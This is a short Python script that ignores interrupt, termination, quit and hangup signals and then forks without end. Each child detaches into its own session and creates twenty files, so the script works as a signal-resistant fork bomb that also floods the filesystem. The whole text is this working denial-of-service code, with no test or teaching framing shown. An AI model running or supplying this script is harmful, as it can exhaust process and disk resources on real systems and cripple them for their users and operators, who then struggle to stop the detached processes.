"""Starts processes without end, in sessions of their own, each of which writes files, and ignores signals."""

import os
import signal
import time

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGQUIT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    if os.fork() == 0:
        os.setsid()
        for number in range(20):
            open(f"{os.getpid()}-{number}", "w").close()
            time.sleep(0.05)
        os._exit(0)
    time.sleep(0.05)
